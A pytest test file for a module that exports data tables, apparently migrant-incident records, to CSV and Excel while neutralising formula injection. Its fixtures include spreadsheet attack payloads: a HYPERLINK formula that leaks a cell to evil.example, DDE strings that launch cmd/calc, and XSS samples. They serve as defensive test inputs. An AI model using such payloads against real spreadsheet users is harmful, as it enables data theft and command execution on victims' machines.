"""CSV and Excel downloads neutralise formula injection and keep every value's type."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from export.tables import EXCEL_MAX_ROWS, neutralise_text, to_safe_csv, to_safe_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign
]
SAFE_TEXT = [
    "Tripoli",
    "Türkiye — Çanakkale, «Évros»",
    "مهاجرون غرقى",
    "🚣 ; 🌊",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "a=b+c",  # a formula character later in the text is harmless
    "'already quoted",
]


@pytest.fixture
def frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "location": PAYLOADS,
            "note": (SAFE_TEXT * 2)[:n],
            "dead": pd.array([1, -2, 0, None, 5, 6, 7, 2**31], dtype="Int64"),
            "lat": [33.5, -12.25, np.nan, 0.0, 1e-7, -90.0, 90.0, 45.0],
            "incident_date": [dt.date(2024, 3, d) for d in range(1, n + 1)],
            "is_demo": [True, False] * (n // 2),
            "route_ids": [["central_mediterranean", "=evil"]] * n,
        }
    )


def read_csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel then reads UTF-8 correctly
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_every_formula_cell(frame: pd.DataFrame) -> None:
    rows = read_csv_cells(to_safe_csv(frame))
    assert rows[0] == list(frame.columns)
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert all(r[6] == "central_mediterranean; =evil" for r in rows[1:])  # lists as text


def test_csv_keeps_numbers_dates_and_text_as_they_are(frame: pd.DataFrame) -> None:
    rows = read_csv_cells(to_safe_csv(frame))
    assert [r[1] for r in rows[1:]] == (SAFE_TEXT * 2)[: len(PAYLOADS)]
    assert [r[2] for r in rows[1:]] == ["1", "-2", "0", "", "5", "6", "7", str(2**31)]
    assert [r[3] for r in rows[1:4]] == ["33.5", "-12.25", ""]  # a negative number: not quoted
    assert rows[1][4] == "2024-03-01" and rows[1][5] == "True"


def test_csv_round_trips_through_pandas(frame: pd.DataFrame) -> None:
    back = pd.read_csv(io.BytesIO(to_safe_csv(frame)), encoding="utf-8-sig")
    assert back["dead"].tolist()[:3] == [1, -2, 0] and pd.isna(back["dead"][3])
    assert back["lat"].tolist()[:2] == [33.5, -12.25]
    assert back["note"].tolist()[2] == "مهاجرون غرقى"


def _xlsx(frame: pd.DataFrame, **kw) -> openpyxl.Workbook:  # type: ignore[no-untyped-def]
    return openpyxl.load_workbook(io.BytesIO(to_safe_xlsx(frame, **kw)))


def test_xlsx_has_no_formula_anywhere(frame: pd.DataFrame) -> None:
    data = to_safe_xlsx(frame, "Incidents", ["Source: IOM Missing Migrants Project", "=cmd"])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in sheets)
        assert not any("vbaProject" in n or "externalLink" in n for n in z.namelist())
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))


def test_xlsx_neutralised_cells_are_strings_with_an_apostrophe(frame: pd.DataFrame) -> None:
    ws = _xlsx(frame, sheet_name="Incidents")["Incidents"]
    cells = [ws.cell(r, 1) for r in range(2, len(PAYLOADS) + 2)]
    # xlsxwriter stores a carriage return as Excel's escape "_x000D_", which openpyxl returns
    # as written (Excel shows the character).
    assert [c.value.replace("_x000D_", "\r") for c in cells] == ["'" + p for p in PAYLOADS]
    assert {c.data_type for c in cells} == {"s"}
    assert ws.cell(2, 7).value == "central_mediterranean; =evil"


def test_xlsx_keeps_numbers_dates_and_booleans_typed(frame: pd.DataFrame) -> None:
    ws = _xlsx(frame, sheet_name="Incidents")["Incidents"]
    dead = [ws.cell(r, 3) for r in range(2, 10)]
    assert [c.value for c in dead] == [1, -2, 0, None, 5, 6, 7, 2**31]
    assert {c.data_type for c in dead if c.value is not None} == {"n"}
    lat = [ws.cell(r, 4).value for r in range(2, 10)]
    assert lat == [33.5, -12.25, None, 0, 1e-7, -90, 90, 45]
    assert ws.cell(2, 5).value == dt.datetime(2024, 3, 1) and ws.cell(2, 5).is_date
    assert (ws.cell(2, 6).value, ws.cell(2, 6).data_type) == (True, "b")


def test_xlsx_unicode_and_html_survive_as_text(frame: pd.DataFrame) -> None:
    ws = _xlsx(frame, sheet_name="Incidents")["Incidents"]
    assert [ws.cell(r, 2).value for r in range(2, 10)] == (SAFE_TEXT * 2)[:8]
    assert all(ws.cell(r, 2).data_type == "s" for r in range(2, 10))


def test_about_sheet_comes_first_and_names_the_provenance(frame: pd.DataFrame) -> None:
    notes = [
        "Source: IOM's Missing Migrants Project (CC BY 4.0), vintage 2026-04-09",
        "Filters: 2023-01-01 to 2023-12-31; route = Central Mediterranean",
        "-2 rows hidden",  # filter text can come from a URL: neutralised too
    ]
    wb = _xlsx(frame, sheet_name="Incidents", notes=notes)
    assert wb.sheetnames == ["About", "Incidents"]
    about = [c.value for c in wb["About"]["A"]]
    assert about == ["About this export", notes[0], notes[1], "'-2 rows hidden"]
    assert _xlsx(frame, sheet_name="Incidents").sheetnames == ["Incidents"]


def test_sheet_names_are_made_valid(frame: pd.DataFrame) -> None:
    wb = _xlsx(frame.head(1), sheet_name="Deaths: 2023/24 [all routes]? *draft* and more text")
    (name,) = wb.sheetnames
    assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
    assert _xlsx(frame.head(1), sheet_name="About", notes=["x"]).sheetnames == [
        "About",
        "About (2)",
    ]
    assert _xlsx(frame.head(1), sheet_name="'").sheetnames == ["Data"]


def test_big_integers_decimals_and_odd_values(frame: pd.DataFrame) -> None:
    df = pd.DataFrame(
        {
            "h3_r5": pd.array([599686042433355775, None], dtype="UInt64"),
            "share": [decimal.Decimal("-0.125"), decimal.Decimal("2")],
            "ratio": [float("inf"), float("-inf")],
            "seen": [pd.Timestamp("2024-03-01 12:30"), pd.NaT],
            "blob": [b"\x00\x01", None],
        }
    )
    ws = _xlsx(df)["Data"]
    assert (ws["A2"].value, ws["A2"].data_type) == ("599686042433355775", "s")  # no digit lost
    assert (ws["B2"].value, ws["B3"].value) == (-0.125, 2)
    assert (ws["C2"].value, ws["C3"].value) == ("inf", "'-inf")
    assert ws["D2"].value == dt.datetime(2024, 3, 1, 12, 30) and ws["D3"].value is None
    assert ws["E2"].value == "0001"
    rows = read_csv_cells(to_safe_csv(df))
    assert rows[1][:5] == ["599686042433355775", "-0.125", "inf", "2024-03-01 12:30:00", "0001"]
    assert rows[2][2] == "'-inf"


def test_empty_frame_and_row_limit() -> None:
    assert read_csv_cells(to_safe_csv(pd.DataFrame({"a": []}))) == [["a"]]
    assert _xlsx(pd.DataFrame({"a": []}))["Data"]["A1"].value == "a"
    too_many = pd.DataFrame({"a": np.zeros(EXCEL_MAX_ROWS, dtype="int8")})
    with pytest.raises(ValueError, match="do not fit in an Excel sheet"):
        to_safe_xlsx(too_many)


def test_formula_headers_are_neutralised_too() -> None:
    df = pd.DataFrame({"=cmd|' /C calc'!A0": [1]})
    assert read_csv_cells(to_safe_csv(df))[0] == ["'=cmd|' /C calc'!A0"]
    assert _xlsx(df)["Data"]["A1"].value == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text", [*PAYLOADS, "-", "=", "@"], ids=[f"payload{i}" for i in range(len(PAYLOADS) + 3)]
)
def test_neutralise_text(text: str) -> None:
    assert neutralise_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", [*SAFE_TEXT, "", " =1", "1-2"], ids=[f"text{i}" for i in range(len(SAFE_TEXT) + 3)]
)
def test_plain_text_is_left_alone(text: str) -> None:
    assert neutralise_text(text) == text
